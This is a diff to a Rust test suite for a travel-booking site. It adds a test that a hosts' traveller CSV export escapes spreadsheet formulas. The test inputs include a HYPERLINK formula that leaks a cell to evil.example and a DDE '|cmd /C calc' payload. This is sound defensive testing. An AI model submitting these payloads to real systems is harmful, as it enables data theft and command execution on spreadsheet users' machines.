@@ -7,7 +7,7 @@ use proptest::test_runner::TestRunner;
 use reqwest::StatusCode;
 use serde_json::Value;
 
-use crate::helpers::TestApp;
+use crate::helpers::{DEMO_PASSWORD, TestApp};
 
 /// Values a visitor may put in a query string: numbers at and past every integer's limits,
 /// signs, decimals, words, scripts, invisible characters and search operators.
@@ -178,5 +178,86 @@ async fn hardening_inputs_any_query_string_on_any_list_gives_no_server_error() {
             assert_eq!(body["items"].as_array().map(Vec::len), Some(0), "{path}");
             assert_eq!(body["per_page"], 100, "{path}");
         }
+    }
+}
+
+const ARGAN: &str = "/trips/six-jours-dans-la-reserve-de-biosphere-de-l-arganeraie";
+
+/// Books the Argan stay for `travellers` (one per line) as the demo traveller; the departure.
+async fn book_argan(app: &TestApp, travellers: &str) -> i64 {
+    let traveller = app
+        .visitor("traveller@demo.passerelle.test", DEMO_PASSWORD)
+        .await;
+    let (_, page) = traveller.page(ARGAN).await;
+    // The first departure the traveller has not booked yet.
+    for action in page
+        .split("action=\"/departures/")
+        .skip(1)
+        .filter_map(|s| s.split('"').next())
+        .map(|s| format!("/departures/{s}"))
+    {
+        let res = traveller
+            .submit(
+                ARGAN,
+                &action,
+                &[
+                    ("travellers", travellers),
+                    ("contact_email", "famille@example.org"),
+                    ("dietary", "@SUM(1+1)*cmd|' /C calc'!A0"),
+                ],
+            )
+            .await;
+        if res.status() == StatusCode::SEE_OTHER {
+            return action.split('/').nth(2).unwrap().parse().unwrap();
+        }
+    }
+    panic!("no departure to book");
+}
+
+#[tokio::test]
+async fn hardening_inputs_a_traveller_named_like_a_formula_stays_text_in_the_hosts_csv() {
+    let app = TestApp::spawn_demo().await;
+    let departure = book_argan(
+        &app,
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Voir\")\n-2+3\nBen Janssens",
+    )
+    .await;
+    let host = app
+        .visitor("host.jette-sidi-bibi@demo.passerelle.test", DEMO_PASSWORD)
+        .await;
+    let res = host
+        .get(&format!("/host/departures/{departure}/travellers.csv"))
+        .await;
+    assert_eq!(res.status(), StatusCode::OK);
+    let bytes = res.bytes().await.unwrap();
+    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
+    let mut reader = ::csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(true)
+        .from_reader(text.as_bytes());
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    let cells: Vec<&String> = rows.iter().flatten().collect();
+    for c in &cells {
+        let formula = c.starts_with(['=', '@', '\t', '\r'])
+            || (c.starts_with(['+', '-']) && c.replace(',', ".").parse::<f64>().is_err());
+        assert!(!formula, "a cell a spreadsheet would run: {c:?}\n{text}");
+    }
+    assert!(
+        cells
+            .iter()
+            .any(|c| c.starts_with("'=HYPERLINK(\"http://evil.example/")),
+        "the name is kept, as text: {text}"
+    );
+    assert!(cells.iter().any(|c| *c == "'-2+3"), "{text}");
+    assert!(cells.iter().any(|c| c.starts_with("'@SUM(")), "{text}");
+    assert!(cells.iter().any(|c| *c == "Ben Janssens"), "{text}");
+    // Amounts are still numbers a spreadsheet adds up.
+    let ben = rows.iter().find(|r| r[0] == "Ben Janssens").expect("Ben");
+    for amount in &ben[ben.len() - 2..] {
+        let plain = amount.replace(',', ".");
+        assert!(plain.parse::<f64>().is_ok(), "{amount:?} is a number");
     }
 }
